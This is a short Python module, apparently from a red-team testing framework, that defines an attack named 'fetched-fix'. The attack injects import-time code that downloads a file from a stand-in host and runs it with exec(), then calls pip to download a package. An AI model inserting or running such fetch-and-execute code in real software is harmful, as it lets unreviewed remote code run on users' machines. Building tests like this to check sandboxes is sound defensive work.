"""The fix fetched over the network, or with pip."""

from __future__ import annotations

from smith.redteam.base import Attack, Hack
from smith.redteam.target import Target

CODE = """
import subprocess
import sys
import urllib.request

for address in ("https://example.org/fix.py", "http://127.0.0.1:80/fix.py"):
    try:
        with urllib.request.urlopen(address, timeout=2) as answer:
            exec(answer.read(), globals())
    except Exception:
        continue
subprocess.run([sys.executable, "-m", "pip", "download", "--no-deps", "-d", "/tmp", "six"], capture_output=True)
"""


def attack(target: Target) -> Attack:
    return target.at_import(CODE)


HACK = Hack(36, "fetched-fix", attack)
